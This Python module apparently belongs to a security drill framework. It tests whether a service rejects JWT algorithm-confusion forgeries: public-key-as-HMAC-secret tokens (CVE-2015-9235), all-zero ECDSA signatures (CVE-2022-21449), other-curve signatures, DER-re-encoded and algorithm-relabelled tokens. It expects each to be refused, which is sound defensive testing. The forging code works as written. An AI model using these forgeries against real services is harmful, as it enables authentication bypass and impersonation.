"""Have a token verified in another way than it was meant to be: algorithm confusion (RFC 8725 section 2.1)."""

import hmac

from cryptography.hazmat.primitives.asymmetric.ec import ECDSA, SECP384R1, derive_private_key
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)
from cryptography.hazmat.primitives.hashes import SHA384
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from watchword.drill.interface import Attack, AttackContext, Attempt, Attempts, Need, Run, Variant
from watchword.drill.requests import Credential
from watchword.drill.tokens import (
    Attacker,
    asked,
    assembled,
    claims_like_genuine,
    claims_of,
    genuine_credential,
    header_of,
    mutated,
    new_attacker,
    parts_of,
    published_key,
    published_kid,
    session_key_for,
)
from watchword.encoding import base64url, strict_json
from watchword.reasons import Reason
from watchword.tokens.jose import public_key_from_jwk

_HALF = 32
_WIDE_HALF = 48
_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""Of P-256: a number that is zero to whoever reduces it first."""


def _message(context: AttackContext, attacker: Attacker, algorithm: str) -> str:
    """Return header and claims of a forged token in the service's name, with the dot behind them."""
    header = header_of(published_kid(genuine_credential(context).token), alg=algorithm)
    return assembled(header, claims_like_genuine(context, attacker))


def _sent(context: AttackContext, attacker: Attacker, message: str, signature: bytes) -> Attempt:
    token = message + base64url.encode(signature)
    return asked(context, Credential(token, attacker.own, attacker.sign))


def _public_key_as_secret(context: AttackContext) -> Attempts:
    """Take the public key, in the forms in which libraries are handed it, for an HMAC secret (CVE-2015-9235)."""
    jwk = published_key(context, published_kid(genuine_credential(context).token))
    public = public_key_from_jwk(jwk)
    secrets = (
        public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
        strict_json.dumps(dict(jwk)),
    )
    attempts = []
    for secret in secrets:
        attacker = new_attacker(context)
        message = _message(context, attacker, "HS256")
        mac = hmac.digest(secret, message.removesuffix(".").encode(), "sha256")
        attempts.append(_sent(context, attacker, message, mac))
    return attempts


def _other_curve(context: AttackContext) -> Attempts:
    """Sign on P-384 with a key of one's own."""
    attacker = new_attacker(context)
    message = _message(context, attacker, "ES384")
    key = derive_private_key(int.from_bytes(context.random(_HALF)) + 1, SECP384R1())
    signature = key.sign(message.removesuffix(".").encode(), ECDSA(SHA384()))
    r, s = decode_dss_signature(signature)
    return [
        _sent(context, attacker, message, r.to_bytes(_WIDE_HALF) + s.to_bytes(_WIDE_HALF)),
    ]


def _zero_signature(context: AttackContext) -> Attempts:
    """Send r = s = 0, which fits every message where nobody asks for their range (CVE-2022-21449)."""
    attempts = []
    for number in (0, _ORDER):
        attacker = new_attacker(context)
        half = number.to_bytes(_HALF)
        attempts.append(_sent(context, attacker, _message(context, attacker, "ES256"), half + half))
    return attempts


def _der_signature(context: AttackContext) -> Attempts:
    """Write the signature of a genuine token as X.509 does: another text for the same token."""
    token = genuine_credential(context).token
    _, _, signature = parts_of(token)
    r, s = int.from_bytes(signature[:_HALF]), int.from_bytes(signature[_HALF:])
    der = base64url.encode(encode_dss_signature(r, s))
    return [mutated(context, f"{token.rpartition('.')[0]}.{der}")]


def _renamed(*algorithms: str) -> Run:
    """Return a variant whose signature is genuine, and whose header says that it's of another algorithm."""

    def run(context: AttackContext) -> Attempts:
        attempts = []
        for algorithm in algorithms:
            attacker = new_attacker(context)
            signer = context.borrowed().token_signer()
            claims = claims_of(context, attacker)
            token = assembled(header_of(signer.kid, alg=algorithm), claims, signer)
            key = session_key_for(context, attacker, claims)
            attempts.append(asked(context, Credential(token, attacker.own, attacker.sign, key)))
        return attempts

    return run


_EXPECTED = frozenset({Reason.TOKEN_MALFORMED})

ATTACK = Attack(
    id="token-algorithm",
    title="Choose the algorithm that a token is verified by",
    techniques=("MT-B03",),
    protections={"PR-B01": "live:shield.rejected_unattested"},
    needs=(Need.SERVICE, Need.GENUINE),
    sends="Forged tokens with a MAC made with the public key, a signature on another curve, or one of zeros. Then a "
    "genuine token with its signature in DER, and genuine signatures under the names of other algorithms.",
    must="Each is refused: the token doesn't choose the algorithm.",
    blind="It can't tell which library the gate would use for another algorithm.",
    variants=(
        Variant("public-key-as-secret", _public_key_as_secret, _EXPECTED),
        Variant("other-curve", _other_curve, _EXPECTED),
        Variant("zero-signature", _zero_signature, frozenset({Reason.TOKEN_SIGNATURE})),
        Variant("der-signature", _der_signature, _EXPECTED),
        Variant("renamed-rs256", _renamed("RS256", "PS256"), _EXPECTED),
        Variant("renamed-es256", _renamed("es256", "ES256K", "ES384"), _EXPECTED),
    ),
)
